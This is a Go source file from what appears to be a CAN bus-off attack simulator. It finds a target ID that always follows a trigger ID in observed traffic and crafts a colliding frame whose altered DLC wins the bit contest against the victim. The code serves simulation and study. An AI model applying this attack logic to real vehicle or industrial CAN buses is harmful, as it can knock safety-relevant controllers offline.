package sim

import (
	"errors"
	"fmt"
	"math/bits"

	"github.com/kstaniek/can-busoff-sim/internal/can"
)

var (
	ErrNoPattern         = errors.New("sim: no preceded/periodic pattern in traffic")
	ErrNoDominantPattern = errors.New("sim: victim DLC has no recessive bit to override")
)

// Target is what the attacker learned from observed traffic: TargetID is
// always transmitted right after TriggerID.
type Target struct {
	TriggerID   uint32
	TargetID    uint32
	Occurrences int
	// Template is the last observed frame with TargetID.
	Template can.Frame
	Pattern  can.Pattern
}

func (t Target) String() string {
	return fmt.Sprintf("0x%X->0x%X dlc=%s n=%d", t.TriggerID, t.TargetID, t.Pattern, t.Occurrences)
}

// Planner finds attack targets and crafts the colliding frame.
type Planner struct {
	// MinOccurrences is how often a pair must repeat before it is trusted.
	MinOccurrences int
}

type pairStat struct {
	trigger uint32
	count   int
	broken  bool
	last    can.Frame
}

// Analyze scans delivered traffic for an id that is always preceded by the
// same other id. The first frame has no predecessor and is ignored. Among
// candidates the most frequent wins, then the lowest target id.
func (p Planner) Analyze(traffic []can.Frame) (Target, error) {
	minOcc := max(p.MinOccurrences, 2)
	stats := make(map[uint32]*pairStat)
	for i := 1; i < len(traffic); i++ {
		prev, cur := traffic[i-1].ID(), traffic[i].ID()
		st, ok := stats[cur]
		if !ok {
			st = &pairStat{trigger: prev}
			stats[cur] = st
		}
		if st.trigger != prev || prev == cur {
			st.broken = true
			continue
		}
		st.count++
		st.last = traffic[i]
	}
	var best Target
	found := false
	for id, st := range stats {
		if st.broken || st.count < minOcc {
			continue
		}
		if !found || st.count > best.Occurrences || (st.count == best.Occurrences && id < best.TargetID) {
			best = Target{TriggerID: st.trigger, TargetID: id, Occurrences: st.count, Template: st.last, Pattern: st.last.DLCPattern()}
			found = true
		}
	}
	if !found {
		return Target{}, ErrNoPattern
	}
	return best, nil
}

// Craft returns the attack frame for victim: same id, zero payload, and a
// DLC equal to the victim's with its most significant recessive bit driven
// dominant, so the attacker wins the first differing bit.
func (p Planner) Craft(victim can.Frame) (can.Frame, error) {
	if victim.Len == 0 {
		return can.Frame{}, ErrNoDominantPattern
	}
	msb := bits.Len8(victim.Len) - 1
	n := victim.Len &^ (1 << msb)
	return can.NewFrame(victim.ID(), make([]byte, n)), nil
}
